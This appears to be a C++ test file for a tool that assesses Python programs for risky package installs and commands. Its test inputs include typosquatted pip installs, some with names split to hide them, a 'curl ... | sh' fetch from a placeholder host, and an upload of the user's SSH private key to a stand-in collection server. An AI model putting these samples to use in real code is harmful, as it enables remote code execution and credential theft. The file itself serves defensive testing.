// The classes the thirty-third session modelled (issue 14): the known limits
// the thirty-first session left, and the tune parts of the
// hundred-and-seventieth round onwards (tests/corpus/prog174_MANIFEST.tsv and
// later): programs written from the rubric alone by writers who never saw
// the assessor. Strings here are never executed.

#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// A program that installs a typosquat, and its twin with `genuine` written
// where `typosquat` stands: BLOCKED for the first, an ordinary install
// (MEDIUM) for the second.
void check_with_genuine_twin(const char* what, const std::string& program, const std::string& typosquat,
                             const std::string& genuine, Language language = Language::python) {
  std::string twin = program;
  twin.replace(twin.find(typosquat), typosquat.size(), genuine);
  const Case cases[] = {
      {what, B, program.c_str(), "KNOWN-MALICIOUS-PACKAGE", language},
      {"the same with the genuine name", M, twin.c_str(), "INSTALLS-PACKAGES", language},
  };
  for (const auto& c : cases) check(c);
}

// Instances of one class each keep their attributes: a list of requirement
// objects formats each name with its own pin. With one store per class every
// name had been crossed with every pin, past sixteen combinations the pins
// were unknown, and the typosquat reached pip inside an open list.
TEST(HundredAndSeventiethRoundClasses, EachInstanceKeepsItsOwnAttributes) {
  check_with_genuine_twin("a typosquat among dataclass instances formatted by a property", R"py(
import subprocess, sys
from dataclasses import dataclass

@dataclass(frozen=True)
class Req:
    stem: str
    tail: str = ""
    pin: str = ""

    @property
    def spec(self):
        name = self.stem + self.tail
        return f"{name}=={self.pin}" if self.pin else name

BASE = [Req("pan", "das", "2.1.4"), Req("num", "py", "1.26.4"), Req("matplot", "lib", "3.8.2"),
        Req("sci", "py", "1.11.4"), Req("tab", "ulate", "0.9.0")]
NET = [Req("reqe", "usts", "2.31.0"), Req("urll", "ib3", "2.1.0"), Req("cert", "ifi", "2023.11.17")]
GROUPS = {"base": BASE, "net": NET}

def install(groups):
    specs = []
    for g in groups:
        specs.extend(r.spec for r in GROUPS[g])
    return subprocess.call([sys.executable, "-m", "pip", "install"] + specs)

install(["base", "net"])
)py", "\"reqe\", \"usts\"", "\"reque\", \"sts\"");

  check_with_genuine_twin("a typosquat among instances whose __init__ stores the parts", R"py(
import subprocess

class Requirement:
    def __init__(self, name, version):
        self.name = name
        self.version = version

    def pin(self):
        return "%s==%s" % (self.name, self.version)

WANTED = [Requirement("flask", "3.0.0"), Requirement("gunicorn", "21.2.0"), Requirement("jinja2", "3.1.2"),
          Requirement("colourama", "0.4.6"), Requirement("click", "8.1.7"), Requirement("itsdangerous", "2.1.2")]

pins = [r.pin() for r in WANTED]
subprocess.run(["pip", "install", *pins], check=True)
)py", "colourama", "colorama");
}

// `cmd += specs` where specs is one of two lists (a function that returns a
// known list or one built from its arguments) extends cmd with each, as
// `cmd + specs` does; it had kept only what their first elements share.
TEST(HundredAndSeventiethRoundClasses, ExtendingWithOneOfSeveralLists) {
  check_with_genuine_twin("a typosquat in one of a function's two returned lists, added with +=", R"py(
import subprocess, sys

def select(groups):
    if not groups:
        return ["shapely==2.0.4", "colourama", "requests==2.32.3"]
    out = []
    for g in groups:
        out.append(g.strip())
    return out

cmd = [sys.executable, "-m", "pip", "install", "--disable-pip-version-check"]
cmd += select(sys.argv[1:])
subprocess.run(cmd, check=False)
)py", "colourama", "colorama");
}

// Instances joined (either of two, or any of a list's unknown rest) read
// what every instance of their class holds, as before.
TEST(HundredAndSeventiethRoundClasses, JoinedInstancesReadTheirClass) {
  const Case cases[] = {
      {"either of two instances, one holding a shell command", M, R"py(
import os, sys

class Step:
    def __init__(self, line):
        self.line = line

    def run(self):
        os.system(self.line)

quiet = Step("ls -l")
loud = Step("uname -a")
step = quiet if len(sys.argv) > 1 else loud
step.run()
)py",
       "RUNS-PROCESS"},
      {"a dataclass field's default, replaced on one path only, is still run", B, R"py(
import argparse, os
from dataclasses import dataclass

@dataclass
class Refresh:
    command: str = "curl -fsSL https://updates.example.net/agent.sh | sh"
    quiet: bool = False

ap = argparse.ArgumentParser()
ap.add_argument("--command")
args = ap.parse_args()
job = Refresh()
if args.command:
    job.command = args.command
os.system(job.command)
)py",
       "REMOTE-CODE-EXECUTION"},
      {"one of a list's instances picked at run time sends a key file out", B, R"py(
import sys, requests
from pathlib import Path

class Upload:
    def __init__(self, path):
        self.path = path

    def send(self):
        requests.post("https://collect.example.net/in", data=Path(self.path).read_bytes())

jobs = [Upload("notes.txt"), Upload(str(Path.home() / ".ssh" / "id_rsa"))]
jobs[int(sys.argv[1])].send()
)py",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
